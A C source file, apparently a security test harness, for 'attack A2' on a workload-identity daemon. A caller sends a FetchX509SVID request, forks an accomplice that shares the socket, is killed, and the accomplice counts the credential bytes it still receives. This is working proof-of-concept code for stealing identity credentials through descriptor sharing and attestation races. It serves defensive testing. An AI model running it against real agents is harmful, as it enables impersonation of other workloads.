// SPDX-License-Identifier: Apache-2.0
/*
 * A caller that dies while its answer is being made, and an accomplice that holds the same descriptor (attack A2).
 *
 *   shared-descriptor SOCKET REQUEST
 *
 * REQUEST is a file with the bytes of an HTTP/2 connection that asks for FetchX509SVID. For each line "go" on stdin the
 * program forks a caller, which connects and writes the request; the caller forks an accomplice that keeps the
 * descriptor. It prints "asked PID". At "kill" the caller is killed and reaped: "killed". At "read" the accomplice reads until
 * the daemon closes the connection or two seconds pass: "read N", N being the bytes of HTTP/2 DATA it got, or "open N".
 */
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned char request[65536];
static size_t request_length;

static void die(const char *what) {
  perror(what);
  exit(2);
}

static void read_exactly(int fd, void *to, size_t n) {
  for (size_t got = 0; got < n;) {
    ssize_t r = read(fd, (char *)to + got, n - got);
    if (r <= 0) die("control pipe");
    got += (size_t)r;
  }
}

/* Counts the payload bytes of DATA frames (RFC 9113 section 4.1: 24-bit length, 8-bit type, 0 is DATA). */
static void listen_in(int fd, int go, int out) {
  char c;
  read_exactly(go, &c, 1);
  static unsigned char buffer[1 << 20];
  size_t have = 0;
  long data = 0;
  char state = 'o';
  for (;;) {
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, 2000) <= 0) break;
    ssize_t r = read(fd, buffer + have, sizeof buffer - have);
    if (r <= 0) {
      state = 'r';
      break;
    }
    have += (size_t)r;
    size_t at = 0;
    while (have - at >= 9) {
      size_t length = (size_t)buffer[at] << 16 | (size_t)buffer[at + 1] << 8 | buffer[at + 2];
      if (have - at < 9 + length) break;
      if (buffer[at + 3] == 0) data += (long)length;
      at += 9 + length;
    }
    memmove(buffer, buffer + at, have - at);
    have -= at;
  }
  if (write(out, &state, 1) != 1 || write(out, &data, sizeof data) != sizeof data) die("report");
  _exit(0);
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  FILE *f = fopen(argv[2], "rb");
  if (!f) die(argv[2]);
  request_length = fread(request, 1, sizeof request, f);
  fclose(f);
  signal(SIGPIPE, SIG_IGN);
  setvbuf(stdout, NULL, _IOLBF, 0);

  char line[64];
  pid_t caller = -1;
  int go[2], out[2], ready[2];
  while (fgets(line, sizeof line, stdin)) {
    if (!strncmp(line, "go", 2)) {
      if (pipe(go) || pipe(out) || pipe(ready)) die("pipe");
      caller = fork();
      if (caller < 0) die("fork");
      if (caller == 0) {
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        strncpy(address.sun_path, argv[1], sizeof address.sun_path - 1);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address)) die("connect");
        if (write(fd, request, request_length) != (ssize_t)request_length) die("write");
        pid_t accomplice = fork();
        if (accomplice == 0) {
          prctl(PR_SET_PDEATHSIG, 0);
          close(go[1]);
          listen_in(fd, go[0], out[1]);
        }
        char c = 'x';
        if (write(ready[1], &c, 1) != 1) die("ready");
        for (;;) pause();
      }
      char c;
      read_exactly(ready[0], &c, 1);
      close(ready[0]);
      close(ready[1]);
      close(go[0]);
      printf("asked %d\n", (int)caller);
    } else if (!strncmp(line, "kill", 4)) {
      kill(caller, SIGKILL);
      waitpid(caller, NULL, 0);
      printf("killed\n");
    } else if (!strncmp(line, "read", 4)) {
      char state;
      long data;
      if (write(go[1], "x", 1) != 1) die("go");
      read_exactly(out[0], &state, 1);
      read_exactly(out[0], &data, sizeof data);
      close(go[1]);
      close(out[0]);
      close(out[1]);
      printf("%s %ld\n", state == 'r' ? "read" : "open", data);
    }
  }
  return 0;
}
